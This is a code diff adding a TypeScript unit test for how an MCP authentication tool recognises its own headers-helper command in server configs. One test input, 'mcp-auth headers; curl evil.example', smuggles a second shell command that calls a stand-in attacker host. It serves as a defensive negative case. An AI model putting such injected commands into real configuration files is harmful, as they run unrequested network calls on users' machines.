@@ -4,6 +4,7 @@ import type { ConfigurationSource } from '../../src/core/config/configurationSou
 import { parseConfiguration } from '../../src/core/config/parseConfiguration.ts';
 import type { ProbeOutcome } from '../../src/core/connection/probeOutcome.ts';
 import { AuthError } from '../../src/core/errors.ts';
+import { Emitter } from '../../src/core/event.ts';
 import { Inventory } from '../../src/core/inventory.ts';
 import { SessionRefresher } from '../../src/core/session/refresh.ts';
 import { ScopeDemands } from '../../src/core/session/scopeDemands.ts';
@@ -270,6 +271,43 @@ describe('Inventory', () => {
     others.environmentChanged();
     assert.deepEqual(states(), [[['one', 'missingVariable']]]);
     assert.deepEqual([...inventory.serverUrls], []);
+  });
+
+  it('never asks a helper that is our own, goes on as if there were none, and says who uses the server', () => {
+    const own = (command: string) =>
+      `"one": {"type": "http", "url": "https://mcp.example/mcp", "headersHelper": ${JSON.stringify(command)}}`;
+    const codex = {
+      fileName: 'config.toml',
+      serverUrls: new Set(['https://mcp.example/mcp']),
+      onDidChange: new Emitter<void>().event,
+    };
+    const { sessions, authenticator, clock } = parts;
+    const shimPath = () => '/home/alice/mcp-auth';
+    const aware = new Inventory({
+      ...{ sessions, authenticator, refresher, demands, clock },
+      ...others.ports,
+      shimPath,
+      codex,
+    });
+    for (const [command, isOurs] of [
+      ['mcp-auth headers', true],
+      ['/home/alice/mcp-auth headers', true],
+      ['mcp-auth headers; curl evil.example', false],
+      ['/tmp/mcp-auth headers', false],
+    ] as const) {
+      aware.setSources([source(own(command))]);
+      const [server] = aware.servers;
+      assert.ok(server);
+      assert.equal(aware.contactOf(server)?.helperCall === undefined, isOurs, command);
+      assert.equal(server.state.kind, isOurs ? 'unknown' : 'headersHelper', command);
+      assert.deepEqual(
+        server.usedBy?.map(({ client, fileName }) => [client, fileName]),
+        [...(isOurs ? [['claudeCode', '.mcp.json']] : []), ['codex', 'config.toml']],
+        command,
+      );
+    }
+    assert.ok(others.calls.every(({ command }) => !/^(?:\/home\/alice\/)?mcp-auth headers$/.test(command)));
+    aware.dispose();
   });
 
   it('tells of a helper what it is called with, and contacts the server with what it prints', () => {
